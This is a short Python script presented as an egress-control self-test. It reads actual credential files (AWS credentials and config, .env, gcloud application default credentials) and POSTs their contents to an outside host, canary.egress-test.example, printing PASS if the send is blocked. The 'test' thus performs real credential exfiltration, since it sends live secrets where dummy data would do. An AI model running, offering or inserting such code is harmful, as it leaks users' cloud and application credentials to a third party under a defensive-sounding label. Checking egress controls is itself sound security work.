#!/usr/bin/env python3
"""Egress self-test: tries to send a realistic credential payload out.
If the network blocks it, egress control works (PASS)."""
import os, pathlib, urllib.request

CANARY = "https://canary.egress-test.example/collect"

payload = b""
for p in ("~/.aws/credentials", "~/.aws/config", ".env", "~/.config/gcloud/application_default_credentials.json"):
    f = pathlib.Path(os.path.expanduser(p))
    if f.is_file():
        payload += b"### " + str(f).encode() + b"\n" + f.read_bytes() + b"\n"

try:
    urllib.request.urlopen(urllib.request.Request(CANARY, data=payload, method="POST"), timeout=8)
    print("egress: NOT blocked (FAIL)")
except Exception:
    print("egress: blocked (PASS)")
